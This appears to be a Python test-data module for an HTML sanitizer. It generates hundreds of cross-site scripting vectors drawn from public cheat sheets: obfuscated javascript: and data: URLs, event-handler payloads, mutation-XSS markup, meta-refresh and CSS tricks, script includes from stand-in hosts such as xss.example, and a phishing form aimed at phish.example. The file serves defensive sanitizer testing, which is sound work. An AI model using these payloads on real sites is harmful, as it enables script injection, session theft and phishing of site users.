"""Script, handler, URL and style vectors, written for these tests after the families of the OWASP
XSS Filter Evasion Cheat Sheet, the HTML5 Security Cheatsheet (html5sec.org) and PortSwigger's XSS
cheat sheet: classic payloads, scheme obfuscation (entities with and without semicolons, padded
zeros, tabs, newlines, NUL, leading control characters, case), event handlers on every kind of
element, CSS that loads or runs, parser-confusion ("mutation") markup, and elements that act on the
page (forms, meta, base, link, plug-ins, svg, math).

VECTORS is a list of (name, html). Every one of them must come out of the sanitizer, and out of
every published file, without active content (tests/active_content.py says what that is).
"""

from __future__ import annotations

PAYLOAD = "alert(1)"

# -- scheme obfuscation ----------------------------------------------------------------------------


def _decimal(text: str, width: int = 0, semicolon: bool = True) -> str:
    return "".join(f"&#{ord(c):0{width}d}{';' if semicolon else ''}" for c in text)


def _hex(text: str, semicolon: bool = True) -> str:
    return "".join(f"&#x{ord(c):x}{';' if semicolon else ''}" for c in text)


SCRIPT_URLS = {
    "plain": "javascript:alert(1)",
    "upper": "JAVASCRIPT:alert(1)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "decimal-entities": _decimal("javascript:alert(1)"),
    "decimal-no-semicolons": _decimal("javascript:alert(1)", width=7, semicolon=False),
    "hex-entities": _hex("javascript:alert(1)"),
    "hex-no-semicolons": _hex("javascript:alert(1)", semicolon=False),
    "partial-entity": "javas&#99;ript:alert(1)",
    "named-colon": "javascript&colon;alert(1)",
    "tab": "jav\tascript:alert(1)",
    "encoded-tab": "jav&#x09;ascript:alert(1)",
    "encoded-newline": "jav&#x0A;ascript:alert(1)",
    "encoded-cr": "jav&#x0D;ascript:alert(1)",
    "named-newline": "java&NewLine;script:alert(1)",
    "named-tab": "java&Tab;script:alert(1)",
    "leading-spaces-and-controls": " &#14;  javascript:alert(1)",
    "leading-control": "\x01javascript:alert(1)",
    "nul-inside": "java\x00script:alert(1)",
    "encoded-nul": "java&#0;script:alert(1)",
    "newline-inside": "java\nscript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-upper": "VBSCRIPT:msgbox(1)",
    "livescript": "livescript:alert(1)",
    "mocha": "mocha:alert(1)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-mixed-case": "DaTa:text/html,<script>alert(1)</script>",
    "data-entities": _decimal("data:") + "text/html,<script>alert(1)</script>",
    "data-svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "data-svg-base64": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data-javascript": "data:application/javascript,alert(1)",
    "data-xml": "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
}

# Where a URL may run: (tag, attribute, rest of the element).
URL_CARRIERS = [
    ("a", "href", ">click</a>"),
    ("img", "src", ">"),
    ("img", "lowsrc", ">"),
    ("img", "dynsrc", ">"),
    ("img", "srcset", ">"),
    ("iframe", "src", "></iframe>"),
    ("frame", "src", ">"),
    ("embed", "src", ">"),
    ("object", "data", "></object>"),
    ("form", "action", "><input type=submit></form>"),
    ("button", "formaction", ">x</button>"),
    ("input", "src", " type=image>"),
    ("base", "href", ">"),
    ("link", "href", " rel=stylesheet>"),
    ("area", "href", ">"),
    ("video", "poster", "></video>"),
    ("body", "background", ">"),
    ("table", "background", "><tr><td>x</td></tr></table>"),
    ("td", "background", ">x</td>"),
    ("blockquote", "cite", ">q</blockquote>"),
    ("q", "cite", ">q</q>"),
    ("bgsound", "src", ">"),
    ("isindex", "action", " type=image>"),
    ("source", "srcset", ">"),
    ("math", "href", ">click</math>"),
]


def _url_vectors() -> list[tuple[str, str]]:
    vectors = []
    for url_name, url in SCRIPT_URLS.items():
        for tag, attribute, rest in URL_CARRIERS:
            for quote in ('"', "'", ""):
                if quote == "" and any(c in url for c in " \t\n'\"<>"):
                    continue
                if quote and quote in url:
                    continue
                vectors.append(
                    (
                        f"url-{url_name}-{tag}-{attribute}-{quote or 'bare'}",
                        f"<{tag} {attribute}={quote}{url}{quote}{rest}",
                    )
                )
    return vectors


# -- event handlers --------------------------------------------------------------------------------

HANDLERS = [
    ("img", "onerror", " src=x"),
    ("img", "onload", " src=https://e.example/a.png"),
    ("body", "onload", ""),
    ("svg", "onload", ""),
    ("details", "ontoggle", " open"),
    ("div", "onmouseover", ""),
    ("a", "onfocus", " href=#x autofocus"),
    ("p", "onclick", ""),
    ("input", "onfocus", " autofocus"),
    ("select", "onfocus", " autofocus"),
    ("textarea", "onfocus", " autofocus"),
    ("iframe", "onload", ""),
    ("video", "onerror", " src=x"),
    ("audio", "onerror", " src=x"),
    ("object", "onerror", " data=x"),
    ("marquee", "onstart", ""),
    ("style", "onload", ""),
    ("table", "onpointerover", ""),
    ("td", "onanimationstart", ""),
    ("li", "onfocusin", " tabindex=1"),
    ("span", "ontransitionend", ""),
    ("xss", "onclick", " id=x tabindex=1"),
    ("custom-element", "onbeforetoggle", " popover"),
    ("h1", "onwheel", ""),
    ("time", "oncopy", ""),
]


def _handler_vectors() -> list[tuple[str, str]]:
    vectors = []
    for tag, handler, extra in HANDLERS:
        vectors += [
            (f"on-{tag}-{handler}-quoted", f'<{tag}{extra} {handler}="{PAYLOAD}">x</{tag}>'),
            (f"on-{tag}-{handler}-bare", f"<{tag}{extra} {handler}={PAYLOAD}>x</{tag}>"),
            (f"on-{tag}-{handler}-slashes", f"<{tag}{extra.replace(' ', '/')}/{handler}={PAYLOAD}>x</{tag}>"),
            (f"on-{tag}-{handler}-newline", f"<{tag}{extra}\n{handler}\n=\n{PAYLOAD}>x</{tag}>"),
            (
                f"on-{tag}-{handler}-upper",
                f"<{tag.upper()}{extra} {handler.upper()}={PAYLOAD}>x</{tag.upper()}>",
            ),
            (f"on-{tag}-{handler}-entities", f'<{tag}{extra} {handler}="alert&#40;1&#41;">x</{tag}>'),
        ]
    return vectors


# -- written out ----------------------------------------------------------------------------------

CLASSICS = [
    ("script", "<script>alert(1)</script>"),
    ("script-src", '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("script-slash-attribute", '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("script-slash-src", '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("script-double-open", '<<SCRIPT>alert("XSS");//<</SCRIPT>'),
    ("script-unclosed", "<SCRIPT SRC=https://xss.example/xss.js?< B >"),
    ("script-protocol-relative", "<SCRIPT SRC=//xss.example/.j>"),
    ("script-quote-in-attribute", '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("script-backtick-attribute", '<SCRIPT a=`>` SRC="https://xss.example/xss.js"></SCRIPT>'),
    (
        "script-split-by-write",
        '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
    ),
    ("script-in-title-end", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("script-in-textarea-end", "</textarea><script>alert(1)</script>"),
    ("script-in-style-end", "</style><script>alert(1)</script>"),
    ("script-after-quote", '"><script>alert(1)</script>'),
    ("script-after-attribute-quote", "'><script>alert(1)</script>"),
    ("script-namespaced", "<xss:script>alert(1)</xss:script>"),
    ("script-defer", "<script defer>alert(1)</script>"),
    ("script-type-module", '<script type="module">alert(1)</script>'),
    ("script-in-svg", "<svg><script>alert(1)</script></svg>"),
    ("script-in-svg-href", '<svg><script xlink:href="data:,alert(1)"></script></svg>'),
    ("svg-onload-slash", "<svg/onload=alert(1)>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    (
        "svg-set-href",
        "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=20>x</text></a></svg>",
    ),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>'),
    ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    ("math-href", '<math href="javascript:javascript:alert(1)">CLICKME</math>'),
    ("img-malformed", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("img-grave-accent", "<IMG SRC=`javascript:alert(1)`>"),
    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-half-open", "<IMG SRC=\"`<javascript:alert>`('XSS')\""),
    (
        "img-onerror-encoded",
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    ),
    ("img-default-src", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img-empty-src", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("img-no-src", "<IMG onmouseover=\"alert('xxs')\">"),
    ("img-slash-onerror", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    ("body-onload-junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    ("br-js-include", "<BR SIZE=\"&{alert('XSS')}\">"),
    ("iframe-double-open", "<iframe src=https://xss.example/scriptlet.html <"),
    (
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;"></iframe>',
    ),
    ("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    (
        "object-scriptlet",
        '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    ),
    (
        "object-classid",
        "<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></OBJECT>",
    ),
    (
        "embed-svg",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    ),
    ("applet", '<applet code="x.class" codebase="https://xss.example/"></applet>'),
    (
        "xml-data-island",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ),
    (
        "html-time",
        '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
    ),
    ("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("downlevel-revealed", "<![if !IE]><script>alert(1)</script><![endif]>"),
    (
        "ssi",
        "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://xss.example/xss.js></SCRIPT>'\"-->",
    ),
    ("php", "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>"),
    ("cdata-in-html", "<![CDATA[><script>alert(1)</script>]]>"),
    ("comment-breakout", "<!--><script>alert(1)</script>-->"),
    ("comment-dash-bang", "<!-- --!><script>alert(1)</script> -->"),
    ("meta-refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
    (
        "meta-refresh-data",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    ),
    (
        "meta-refresh-extra-url",
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
    ),
    ("meta-set-cookie", '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">'),
    (
        "meta-utf7",
        '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
    ),
    (
        "meta-charset-imap",
        '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi',
    ),
    ("meta-link-header", '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">'),
    ("base-relative", '<base href="https://xss.example/"><a href="/x">x</a><img src="y.png">'),
    ("base-javascript", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("link-stylesheet", '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">'),
    ("link-import", '<link rel=import href="https://xss.example/x.html">'),
    ("link-preload", '<link rel=preload as=script href="https://xss.example/x.js">'),
    ("style-import", "<STYLE>@import'https://xss.example/xss.css';</STYLE>"),
    ("style-broken-import", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
    ("style-moz-binding", '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>'),
    (
        "style-list-image",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ),
    ("style-background", '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>'),
    (
        "style-class",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    ),
    ("style-text-javascript", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>"),
    ("style-attr-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    ("style-attr-expression-div", "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>"),
    ("style-attr-background", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    (
        "style-attr-unicode",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    ),
    ("style-attr-control", "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">x</DIV>"),
    ("style-attr-behavior", '<XSS STYLE="behavior: url(xss.htc);">'),
    ("style-attr-anonymous", "<XSS STYLE=\"xss:expression(alert('XSS'))\">"),
    ("style-attr-remote", '<p style="background:url(https://tracker.example/p.gif)">tracked</p>'),
    ("us-ascii-obfuscation", "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be"),
    ("form-button", '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>'),
    (
        "form-phishing",
        '<form action="https://phish.example/login" method=post><input name=password type=password><input type=submit></form>',
    ),
    ("input-autofocus", "<input onfocus=write(1) autofocus>"),
    ("keygen", "<keygen autofocus onfocus=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-src-onerror", "<audio src=x onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    (
        "a-newline-handler",
        '<a href="javascript:void(0)" onmouseover=&NewLine;javascript:alert(1)&NewLine;>X</a>',
    ),
    ("a-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    (
        "area-map",
        '<img usemap=#m src=x.png><map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,10,10></map>',
    ),
    ("template", "<template><script>alert(1)</script></template>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("noembed-mxss", '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'),
    ("noframes-mxss", '<noframes><p title="</noframes><img src=x onerror=alert(1)>">'),
    ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("iframe-text-mxss", '<iframe><p title="</iframe><img src=x onerror=alert(1)>">'),
    ("title-mxss", '<title><p title="</title><img src=x onerror=alert(1)>">'),
    ("textarea-mxss", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    ("style-mxss", '<style><p title="</style><img src=x onerror=alert(1)>">'),
    ("math-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("select-template-mxss", "<select><template><style><img src=x onerror=alert(1)>"),
    ("form-math-mxss", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("unclosed-attribute", '<a href="https://e.example/ onmouseover=alert(1) x="'),
    ("unclosed-tag-chain", "<img src=x onerror=alert(1)//"),
    ("attribute-without-space", '<img src="x"onerror="alert(1)">'),
    ("slash-separator", "<img/src='x'/onerror=alert(1)>"),
    ("null-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("null-in-handler", "<img src=x on\x00error=alert(1)>"),
    ("bogus-tag-name", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("entity-lt", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("portal", '<portal src="https://xss.example/"></portal>'),
    ("popover", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>"),
    ("dialog", "<dialog open onclose=alert(1)>x</dialog>"),
    (
        "img-srcset-mixed",
        '<img src="https://e.example/a.png" srcset="https://e.example/a.png 1x, javascript:alert(1) 2x">',
    ),
    (
        "picture-source",
        '<picture><source srcset="javascript:alert(1)"><img src="https://e.example/a.png"></picture>',
    ),
    ("lazy-src", '<img src="https://e.example/blank.gif" data-src="javascript:alert(1)">'),
    ("lazy-original", '<img data-original="data:text/html,<script>alert(1)</script>">'),
    ("a-ping", '<a href="https://e.example/" ping="https://tracker.example/">x</a>'),
    ("a-target", '<a href="https://e.example/" target="_top" rel="opener">x</a>'),
    ("id-clobbering", '<a id="location" name="cookie" href="https://e.example/">x</a><form name=body>'),
    ("css-class-and-id", '<p class="js-modal" id="login">x</p>'),
]

VECTORS: list[tuple[str, str]] = CLASSICS + _url_vectors() + _handler_vectors()

# Titles, authors and categories arrive as text or as HTML; either way none may read as markup.
TEXT_FIELD_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<svg/onload=alert(1)>Breaking",
    "News <b onmouseover=alert(1)>now</b>",
    "</title><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<a href=javascript:alert(1)>link</a>",
]
